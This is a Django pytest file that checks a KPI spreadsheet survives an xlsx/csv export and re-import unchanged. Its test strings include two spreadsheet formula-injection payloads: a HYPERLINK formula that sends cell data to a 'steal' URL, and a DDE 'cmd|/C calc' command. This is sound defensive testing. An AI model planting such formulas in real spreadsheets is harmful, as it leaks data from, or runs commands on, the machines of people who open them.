"""A spreadsheet exported and imported again unchanged changes nothing, for every value kind and any text."""
import io
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse

from submissions.models import Value
from submissions.services import ValueInput, value_set

# Text that a spreadsheet program could take for a formula, quotes, line breaks of every
# kind, control characters, something that looks like an .xlsx escape, and non-Latin scripts.
TEXTS = [
    '=HYPERLINK("https://example.org/steal?d="&A1,"Click for the source")',
    "+47 70 00 00 00",
    "-5 % compared with 2018",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'quoted from the start",
    "''=two quotes and a formula",
    'The office said "about 80", not "exactly 80".',
    "First line\r\nsecond line\nthird line\rfourth line",
    "A lone carriage\rreturn",
    "A vertical\x0btab and a form\x0cfeed pasted from a PDF",
    "literal _x000D_ and _x005F_ stay as typed",
    "بيانات مكتب الإحصاء ٢٠١٩",
    "统计局 2019 年数据",
]


def _value(submission, code, name=None):
    values = submission.values.select_related("data_point").filter(data_point__kpi__code=code)
    return (values.filter(data_point__name=name) if name else values).get()


@pytest.fixture
def varied(submission, city_user):
    """A draft holding every kind of value, with the texts above as notes, sources and reasons."""
    entries = [
        (("EC: ICT: ICT: 2C",), ValueInput(number=Decimal("82.85"), data_quality="accurate")),            # percent
        (("EC: I: ES: 2C",), ValueInput(number=Decimal("12345678901234.123456"))),                        # long number
        (("SC: SH: SA: 5A",), ValueInput(number=Decimal("0.000001"))),                                    # tiny number
        (("EC: ICT: ICT: 5A",), ValueInput(number=Decimal("412"), data_quality="survey")),                 # count
        (("SC: SH: SA: 3A",), ValueInput(yes_no=True)),                                                    # yes
        (("EC: I: UP: 2A", "Compact"), ValueInput(yes_no=False)),                                          # no
        (("EC: ICT: ICT: 1C",), ValueInput(number=Decimal("82"), numerator=Decimal("41"), denominator=Decimal("50"))),
        (("EC: ICT: ICT: 3C",), ValueInput(number=Decimal("116.994151"), numerator=Decimal("78"),
                                           denominator=Decimal("66670"))),                                # per 100 000
        (("EC: ICT: PS: 1A", "Open Data Sets Published"),
         ValueInput(not_reported=True, not_reported_reason=TEXTS[0])),                                    # not reported
        (("EC: ICT: PS: 2A",), ValueInput()),                                                              # blank
    ]
    for index, (key, data) in enumerate(entries):
        texts = {"note": TEXTS[index % len(TEXTS)], "source": TEXTS[(index + 1) % len(TEXTS)][:300]}
        if data.not_reported:
            texts["note"] = TEXTS[-1]
        value_set(value_id=_value(submission, *key).pk, actor=city_user, data=ValueInput(**{**data.__dict__, **texts}))
    # The remaining texts as reasons of not reported values, so each text sits in each free-text column.
    for text, value in zip(TEXTS[1:], submission.values.filter(version=0).order_by("pk")):
        value_set(value_id=value.pk, actor=city_user,
                  data=ValueInput(not_reported=True, not_reported_reason=text, note=text, source=text[:300]))
    return submission


def stored(submission):
    return sorted(Value.objects.filter(submission=submission).values_list(
        "pk", "number", "yes_no", "numerator", "denominator", "not_reported", "not_reported_reason",
        "source", "data_quality", "note", "version", "entered_at", "band",
    ))


def exported(client, submission, extension, exporter, tmp_path):
    """The file as the export page or the export_values command writes it."""
    if exporter == "site":
        response = client.get(reverse("submissions:export", args=[submission.pk, extension]))
        assert response.status_code == 200
        return response.content
    path = tmp_path / f"export.{extension}"
    call_command("export_values", "--city", submission.city.slug, "--year", str(submission.year), str(path),
                 stdout=io.StringIO())
    return path.read_bytes()


@pytest.fixture(params=["xlsx", "csv"])
def extension(request):
    return request.param


@pytest.fixture(params=["site", "command"])
def export(request, client, city_user, varied, tmp_path, extension):
    """The varied submission exported, with what was stored before and how many history rows there were."""
    client.force_login(city_user)
    return exported(client, varied, extension, request.param, tmp_path), stored(varied), Value.history.count()


@pytest.mark.django_db
def test_a_file_exported_and_uploaded_unchanged_changes_nothing(client, varied, export, extension):
    content, before, history = export

    response = client.post(reverse("submissions:import", args=[varied.pk]),
                           {"file": SimpleUploadedFile(f"values.{extension}", content)}, follow=True)

    assert "The spreadsheet is imported: 0 data points changed, 112 unchanged." in response.content.decode()
    assert stored(varied) == before
    assert Value.history.count() == history


@pytest.mark.django_db
def test_import_values_of_an_unchanged_export_changes_nothing(varied, export, extension, tmp_path):
    content, before, history = export
    path = tmp_path / f"reimport.{extension}"
    path.write_bytes(content)
    out = io.StringIO()

    call_command("import_values", "--city", varied.city.slug, "--year", str(varied.year), str(path), stdout=out)

    assert "0 data point(s) changed, 112 unchanged" in out.getvalue()
    assert stored(varied) == before
    assert Value.history.count() == history


@pytest.mark.django_db
def test_the_submission_of_the_round_trip_holds_every_kind_of_value_and_text(varied):
    """The round trip above is only worth something if the submission holds all of this."""
    values = list(varied.values.select_related("data_point"))
    kinds = {v.data_point.value_kind for v in values if v.number is not None}
    assert kinds == {"percent", "number", "count"}
    assert {v.yes_no for v in values} >= {True, False, None}
    assert any(v.numerator is not None for v in values)
    assert any(v.not_reported for v in values) and any(not v.has_answer for v in values)
    texts = {getattr(v, f) for v in values for f in ("note", "source", "not_reported_reason")}
    for text in TEXTS:
        assert text in texts or text[:300] in texts
